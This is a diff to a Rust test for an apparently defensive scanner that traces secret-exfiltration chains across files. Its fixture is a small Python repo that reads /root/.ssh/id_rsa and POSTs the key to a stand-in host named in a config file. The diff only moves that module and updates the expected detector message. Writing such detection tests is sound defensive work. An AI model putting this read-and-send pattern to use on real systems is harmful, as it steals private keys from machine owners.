@@ -15,16 +15,16 @@ async fn what_one_file_reads_and_another_sends_stands_where_it_is_sent() {
     let mut repo = TestRepo::new();
     repo.commit(&[
         (b"config.json", b"{\"to\": \"https://v.example.invalid/x\"}"),
-        (b"lib/keys.py", b"def keys():\n    return open('/root/.ssh/id_rsa').read()\n"),
+        (b"keys.py", b"def keys():\n    return open('/root/.ssh/id_rsa').read()\n"),
         (
             b"main.py",
-            b"import json, requests\nfrom lib.keys import keys\nrequests.post(json.load(open('config.json'))['to'], data=keys())\n",
+            b"import json, requests\nfrom keys import keys\nrequests.post(json.load(open('config.json'))['to'], data=keys())\n",
         ),
     ]);
     let copy = copy(&repo, Provider::Semgrep).await;
     assert_eq!(chains(&copy), [("main.py", Rule::SecretSent, 3)]);
     let message = copy.evidence.values().flatten().next().unwrap().chain.message();
-    assert!(message.contains("reads /root/.ssh/id_rsa (lib/keys.py, line 2)"), "{message}");
+    assert!(message.contains("reads /root/.ssh/id_rsa (keys.py, line 2)"), "{message}");
 }
 
 #[tokio::test]
